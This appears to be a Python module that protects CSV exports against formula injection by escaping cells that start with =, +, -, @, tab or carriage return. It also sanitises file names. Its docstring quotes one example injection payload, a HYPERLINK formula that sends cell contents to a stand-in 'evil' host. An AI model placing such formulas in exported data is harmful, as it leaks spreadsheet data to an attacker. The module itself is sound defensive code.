"""Files people open in a spreadsheet: every cell goes through ``safe_cell`` first.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and a leading tab or carriage return can hide such a start), so a talent who names themselves
``=HYPERLINK("http://evil/?"&A1, "Click")`` would run code in the partner's accounting office.
A leading apostrophe makes the program show the text as typed. Every export (CSV files here;
spreadsheets and reports later) writes its cells through this one function.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence

# What makes a spreadsheet program read a cell as a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """Text that a spreadsheet shows as typed, never runs as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_cell(value: object) -> object:
    """A cell that a spreadsheet shows as text, never runs: numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    return safe_text(str(value))


def safe_row(row: Iterable[object]) -> list[object]:
    """Every cell of a row through ``safe_cell``."""
    return [safe_cell(value) for value in row]


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file of ``rows`` under ``header``, every cell made safe, in UTF-8 with a BOM.

    The BOM is what makes spreadsheet programs read Chinese text in a CSV file correctly.
    """
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return out.getvalue().encode("utf-8-sig")


# What file systems or the programs that open a file refuse or misread in a name.
_UNSAFE_IN_NAME = re.compile(r'[\\/:*?"<>|]+')


def safe_filename(stem: str, suffix: str, *, limit: int = 80) -> str:
    """A file name people can read (Chinese kept) that every system accepts: no slashes, no
    control or invisible characters, no leading dot, at most ``limit`` characters before
    ``suffix``."""
    # Invisible format signs (a right-to-left override could disguise ".csv") go; control
    # signs and line breaks become spaces.
    visible = "".join(
        "" if unicodedata.category(ch) == "Cf"
        else " " if unicodedata.category(ch).startswith(("C", "Z"))
        else ch
        for ch in stem
    )  # fmt: skip
    cleaned = _UNSAFE_IN_NAME.sub("-", " ".join(visible.split())).strip(" .-")
    return (cleaned[:limit].rstrip(" .-") or "file") + suffix
